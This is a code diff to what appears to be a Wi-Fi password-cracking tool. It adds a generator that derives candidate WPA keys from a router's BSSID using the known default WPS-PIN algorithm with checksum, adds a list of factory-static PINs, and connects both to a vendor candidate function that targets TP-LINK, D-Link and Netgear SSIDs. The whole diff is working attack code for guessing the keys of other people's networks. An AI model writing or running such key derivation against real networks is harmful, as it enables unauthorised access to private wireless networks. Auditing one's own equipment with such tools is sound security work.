@@ -239,6 +239,46 @@ HOTSPOT_SSID_RE = re.compile(
 HOTSPOT_TACS = ("35684610", "35404311", "86723604")
 
 
+#: routers that print their WPS PIN as the default WPA key (TP-LINK WR
+#: era, some D-Link/Netgear) — the SSID families where an 8-digit PIN
+#: candidate is worth the PBKDF2
+WPS_PIN_SSID_RE = re.compile(
+    rb"^(?:TP-LINK_|D-?Link[-_]|NETGEAR[0-9]{2}$)", re.I
+)
+
+#: factory-default PINs shipped verbatim on many devices
+WPS_STATIC_PINS = (b"12345670", b"00000000", b"12345678", b"88888888")
+
+
+def wps_checksum_digit(pin7: int) -> int:
+    """The WPS checksum digit (WSC spec §7.4.1): weights 3,1,3,1,...
+    over the 7 data digits, most-significant first."""
+    accum = 0
+    t = pin7
+    while t:
+        accum += 3 * (t % 10)
+        t //= 10
+        accum += t % 10
+        t //= 10
+    return (10 - accum % 10) % 10
+
+
+def wps_pin_keys(bssid: bytes):
+    """Default-PIN candidates for the "WPS PIN is the WPA key" family.
+
+    The widely shipped derivation (Viehböck's WPS attack writeups, and
+    routerkeygen's ComputePIN dispositions): the 7 data digits are the
+    NIC-specific last 24 bits of the MAC modulo 10^7, completed with the
+    WSC checksum digit; BSSID±1 covers the radio/WAN MAC offset, and a
+    handful of factory-static PINs ride along.
+    """
+    base = int.from_bytes(bssid[3:], "big")
+    for delta in (0, 1, -1):
+        pin7 = ((base + delta) & 0xFFFFFF) % 10_000_000
+        yield b"%07d%d" % (pin7, wps_checksum_digit(pin7))
+    yield from WPS_STATIC_PINS
+
+
 def imei_hotspot_keys(limit_per_tac: int = 64):
     """A bounded slice of IMEI-derived keys for the precompute path.
 
@@ -289,6 +329,9 @@ def vendor_candidates(bssid: bytes, ssid: bytes, thomson_kw=None):
     if MAC_TAIL_SSID_RE.match(ssid):
         for key in mac_tail_keys(bssid):
             yield ("MacTail", key)
+    if WPS_PIN_SSID_RE.match(ssid):
+        for key in wps_pin_keys(bssid):
+            yield ("WPSPin", key)
     if HOTSPOT_SSID_RE.match(ssid):
         for key in imei_hotspot_keys():
             yield ("IMEI", key)
